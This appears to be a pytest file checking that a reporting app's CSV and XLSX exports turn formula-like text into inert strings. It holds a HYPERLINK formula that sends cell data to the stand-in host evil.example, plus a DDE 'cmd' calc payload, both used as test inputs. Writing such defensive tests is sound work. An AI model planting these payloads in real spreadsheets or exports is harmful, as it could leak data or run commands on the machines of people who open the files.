"""Downloads never carry a live formula: text from feeds and governors stays text in CSV and XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from relay.db import transaction
from relay.models import Alert
from relay.reports.export import to_csv, to_xlsx
from relay.reports.tables import Column, Table

EVIL = '=HYPERLINK("https://evil.example/?d="&B3,"Open the case")'


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_a_formula_title_is_text_in_the_ministrys_workbook_and_csv(client_for, engine, receipts):
    with transaction(engine) as s:
        alert = s.get(Alert, receipts.alert_a)
        alert.title_nb = alert.title_nn = EVIL
    ministry = client_for("ministry")
    book = load_workbook(io.BytesIO(ministry.get("/reports/export/all.xlsx").content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    [title] = [c for c in cells if c.value == EVIL]  # exactly as written, as a string
    assert title.data_type == "s" and title.quotePrefix  # Excel keeps it text even when the cell is edited
    rows = _csv_rows(ministry.get("/reports/export/alerts.csv").text)
    assert "'" + EVIL in [row[1] for row in rows[1:]] and EVIL not in [row[1] for row in rows[1:]]
    page = client_for("ministry").get(f"/reports/alerts/{receipts.alert_a}/export/totals.xlsx")
    sheet = load_workbook(io.BytesIO(page.content)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uff1d1+1"])
def test_every_formula_start_is_defused_in_text_cells_but_numbers_stay_numbers(text):
    table = Table("t", "T", [Column("label", "Label"), Column("n", "N", "int"), Column("share", "Share", "pct")],
                  [[text, -5, -2.5], ["Voss", 3, 33.3]])
    rows = _csv_rows(to_csv(table, "nb"))
    assert rows[1] == ["'" + text, "-5", "-2,5"] and rows[2] == ["Voss", "3", "33,3"]
    sheet = load_workbook(io.BytesIO(to_xlsx([table])))["T"]  # named after its caption
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == (text, "s", True)
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n" and not sheet["A3"].quotePrefix


def test_the_audit_csv_defuses_tab_and_carriage_return_too(client_for, engine, world):
    from relay.audit import record

    with transaction(engine) as s:
        record(session=s, actor="\t=cmd|' /C calc'!A0", action="contact.import", entity="contact",
               entity_id="\r@SUM(1)", office_id=world.office_a)
    text = client_for("ministry").get("/admin/audit.csv?lang=en").text.lstrip("\ufeff")  # semicolons since issue 21
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    [row] = [r for r in rows if r["Action"] == "contact.import"]
    assert row["By"] == "'\t=cmd|' /C calc'!A0" and row["Id"] == "'\r@SUM(1)"
